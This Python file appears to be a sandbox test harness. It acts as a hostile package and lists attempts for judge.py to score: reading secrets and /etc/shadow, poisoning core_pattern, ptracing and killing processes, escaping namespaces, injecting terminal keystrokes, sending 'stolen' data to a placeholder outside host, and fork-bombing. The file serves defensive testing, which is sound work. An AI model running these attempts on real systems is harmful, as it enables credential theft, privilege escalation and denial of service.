"""What a hostile package would try. Each attempt that gets what it wants is noted by name; judge.py looks from outside, too.

targets.json, which judge.py writes, names what there is to steal and to break: a real attacker would have to find it first.
"""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import stat
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
libc = ctypes.CDLL(None, use_errno=True)


def targets():
    with open(os.path.join(HERE, "targets.json")) as file:
        return json.load(file)


def call(name, *arguments):
    """A function of libc; raises OSError."""
    ctypes.set_errno(0)
    result = getattr(libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(number, *arguments):
    return call("syscall", number, *arguments)


ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


# --- files ---


@attempt
def read_secret(t):
    return "secret" in open(t["secret"]).read()


@attempt
def read_secret_by_link(t):
    os.symlink(t["secret"], "link-to-secret")
    return "secret" in open("link-to-secret").read()


@attempt
def read_secret_by_hard_link(t):
    os.link(t["secret"], "hard-link-to-secret")
    return "secret" in open("hard-link-to-secret").read()


@attempt
def list_home(t):
    return "id_secret" in os.listdir(os.path.dirname(t["secret"]))


@attempt
def write_home(t):
    open(os.path.join(os.path.dirname(t["secret"]), "written-by-" + t["phase"]), "w").close()
    return True


@attempt
def read_shadow(t):
    return len(open("/etc/shadow").read()) > 0


@attempt
def list_store(t):
    return bool(set(os.listdir(t["store"])) & {"blobs", "steps", "downloads", "index.sqlite", "logs"})


@attempt
def read_blob(t):
    return any(open(path, "rb").read(1) for path in glob.glob(t["store"] + "/blobs/**/*", recursive=True) if os.path.isfile(path))


@attempt
def write_blob(t):
    open(os.path.join(t["blob"]), "ab").write(b"x")
    return True


@attempt
def new_file_in_store(t):
    open(os.path.join(t["store"], "steps", "planted.json"), "w").write("{}")
    return True


@attempt
def see_other_trees(t):
    return "secret" in open(os.path.join(t["other_tree"], "file")).read()


@attempt
def write_environment(t):
    """The shared environment that other builds use as well."""
    place = os.path.dirname(os.__file__) if t["phase"] == "test" else os.path.dirname(__import__("setuptools").__file__)
    open(os.path.join(place, "planted.py"), "w").close()
    return True


@attempt
def write_interpreter(t):
    open(os.path.join(os.path.dirname(os.__file__), "planted.py"), "w").close()
    return True


@attempt
def remount_environment(t):
    place = os.path.dirname(os.__file__)
    call("mount", b"none", place.encode(), b"none", 0x1020, None)  # remount, bind, read-write
    open(os.path.join(place, "planted.py"), "w").close()
    return True


@attempt
def write_cache_of_others(t):
    open(os.path.join(t["cache"], "planted"), "w").close()
    return True


@attempt
def garble_cache(t):
    """The socket of the compile cache answers only what makes sense."""
    run = os.environ.get("_WHEELSMITH_RUN", "")
    place = dict(part.split("=", 1) for part in open(run).read().split("\t")[1:]).get("cache", "").strip() if run else ""
    for message in [b"F" + b"\xff" * 8, b"F" + (1 << 62).to_bytes(8, "little"), b"\0" * 4096]:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(10)
            line.connect(place)
            line.sendall(message)
            line.shutdown(socket.SHUT_WR)
            if line.recv(1):
                return True
    return False


@attempt
def write_system(t):
    open("/usr/planted", "w").close()
    return True


@attempt
def write_own_state(t):
    """The tree's state, the driver and the links to compilers are ours, not the package's."""
    tree = os.environ.get("GIT_CEILING_DIRECTORIES", "/nonexistent")
    done = False
    for name in ["state.json", "driver/backend.py", "bin/cc", "planted"]:
        try:
            open(os.path.join(tree, name), "ab").write(b" ")
            done = True
        except OSError:
            pass
    return done


@attempt
def replace_own_folders(t):
    """A folder of the tree as a link to the user's home: what we write there later would land in it."""
    tree = os.environ.get("GIT_CEILING_DIRECTORIES", "/nonexistent")
    os.rename(os.path.join(tree, "dist"), os.path.join(tree, "gone"))
    os.symlink(os.path.dirname(t["secret"]), os.path.join(tree, "dist"))
    return True


@attempt
def find_wheel_to_change(t):
    found = False
    for folder, _, names in os.walk(t["store"]):
        for name in names:
            if name.endswith(".whl"):
                open(os.path.join(folder, name), "ab").write(b"x")
                found = True
    return found


@attempt
def lead_next_test_out(t):
    """The files of the next test are copied for it from outside; the judge looks where they went."""
    for name in ("test-1", "test-2"):
        os.symlink(os.path.dirname(t["secret"]), os.path.join(os.environ["HOME"], name))
    return False


@attempt
def make_device(t):
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return True


@attempt
def write_kernel_setting(t):
    open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/evil")
    return True


@attempt
def write_sys(t):
    open("/sys/kernel/uevent_helper", "w").write("/tmp/evil")
    return True


# --- processes ---


@attempt
def see_processes(t):
    return os.path.exists(f"/proc/{t['canary']}/cmdline") and b"canary" in open(f"/proc/{t['canary']}/cmdline", "rb").read()


@attempt
def read_environment_of_others(t):
    return any(b"JUDGE_PASSWORD" in open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/environ") if readable(path))


def readable(path):
    try:
        open(path, "rb").read(1)
        return True
    except OSError:
        return False


@attempt
def kill_canary(t):
    os.kill(t["canary"], signal.SIGTERM)
    return True


@attempt
def kill_everybody(t):
    """Signals to all that can be reached; the judge looks who is still there. Our own parents do not die of it."""
    for pid in range(2, 70000):
        try:
            if pid not in (os.getpid(), os.getppid()):
                os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    return False


@attempt
def trace_parent(t):
    call("ptrace", 16, os.getppid(), None, None)
    call("ptrace", 17, os.getppid(), None, None)
    return True


@attempt
def trace_canary(t):
    call("ptrace", 16, t["canary"], None, None)
    return True


@attempt
def has_capabilities(t):
    lines = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return any(int(lines[name], 16) for name in ["CapInh", "CapPrm", "CapEff", "CapAmb"])


@attempt
def can_gain_privileges(t):
    return "NoNewPrivs:\t1" not in open("/proc/self/status").read()


# --- ways out ---


@attempt
def enter_namespaces(t):
    done = False
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        try:
            fd = os.open(path, os.O_RDONLY)
            call("setns", fd, 0)
            done = True
        except OSError:
            pass
    return done


@attempt
def new_user_namespace(t):
    call("unshare", 0x10000000)
    return True


@attempt
def new_namespace_by_clone(t):
    pid = syscall(56, 0x10000000 | signal.SIGCHLD, None, None, None, None)
    if pid == 0:
        os._exit(0)
    return True


@attempt
def mount_something(t):
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    return True


@attempt
def change_root(t):
    call("chroot", b"/tmp")
    return True


@attempt
def use_bpf(t):
    syscall(321, 0, None, 0)
    return True


@attempt
def use_keys(t):
    syscall(248, b"user", b"planted", b"x", 1, -3)
    return True


@attempt
def use_io_uring(t):
    try:
        syscall(425, 8, None)
    except OSError as error:
        return error.errno != errno.ENOSYS
    return True


@attempt
def set_clock(t):
    try:
        syscall(227, 0, None)
    except OSError as error:
        return error.errno != errno.EPERM
    return True


@attempt
def type_on_terminal(t):
    import fcntl
    import termios

    fd = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(fd, termios.TIOCSTI, b"x")
    return True


# --- network ---


def connects(family, kind, address):
    with socket.socket(family, kind) as connection:
        connection.settimeout(2)
        connection.connect(address)
        connection.send(b"stolen")
    return kind == socket.SOCK_STREAM


@attempt
def tcp(t):
    return connects(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", t["tcp"]))


@attempt
def tcp6(t):
    return connects(socket.AF_INET6, socket.SOCK_STREAM, ("::1", t["tcp6"]))


@attempt
def udp(t):
    return connects(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", t["udp"]))  # only the judge can tell


@attempt
def local_socket(t):
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, t["socket"])


@attempt
def abstract_socket(t):
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + t["abstract"])


@attempt
def outside_world(t):
    return connects(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))


@attempt
def vsock(t):
    with socket.socket(40, socket.SOCK_STREAM):
        return True


@attempt
def raw_packets(t):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return True


@attempt
def other_families(t):
    open_families = []
    for family in range(0, 46):
        if family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
            continue
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
                open_families.append(family)
            except OSError:
                pass
    return bool(open_families)


# --- the governor ---


def run_file():
    for entry in open("/proc/self/environ", "rb").read().split(b"\0"):
        if entry.startswith(b"_WHEELSMITH_RUN="):
            return entry.split(b"=", 1)[1].decode()
    return "/nonexistent/run"


@attempt
def lie_to_governor(t):
    """A run file of our own, that names the user's files as the record; the judge looks whether they were written."""
    folder = os.path.dirname(run_file())
    mine = os.path.abspath("run-planted")
    with open(mine, "w") as file:
        file.write(f"run\tid=planted\tjobs=1\tcores=1\tmemory=0\trecord={t['record']}\tunits={t['record']}.units\truntime={folder}\tprogram=/bin/true\n")
    for name in glob.glob(folder + "/*.sock") + glob.glob(folder + "/*/*.sock"):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(name)
            for path in (mine, "/proc/self/cwd/run-planted"):
                connection.send(f"hello\trun={path}\nask\trun={path}\tkind=compile\tunit=x\tname=x\n".encode())
            connection.settimeout(1)
            try:
                connection.recv(1000)
            except OSError:
                pass
    return False


@attempt
def see_other_runs(t):
    return len(glob.glob(os.path.dirname(run_file()) + "/run-*")) > 2


# --- resources ---


@attempt
def fork_without_end(t):
    """As many processes as there may be; they end at once when we do not want them any more."""
    read, write = os.pipe()
    count = 0
    try:
        for _ in range(50000):
            if os.fork() == 0:
                os.close(write)
                os.read(read, 1)
                os._exit(0)
            count += 1
    except OSError:
        pass
    os.close(write)
    os.close(read)
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break
    return count >= 50000


def run(phase):
    t = targets()
    t["phase"] = phase
    got = []
    skip = set(t.get("skip", []))
    for name, function in ATTEMPTS.items():
        if name in skip:
            continue
        try:
            if function(t):
                got.append(name)
        except Exception:  # refused: as it should be
            pass
    print("ATTEMPTS", phase, len(ATTEMPTS) - len(skip & set(ATTEMPTS)), "GOT", json.dumps(got), flush=True)
    return got


if __name__ == "__main__":
    run(sys.argv[1])
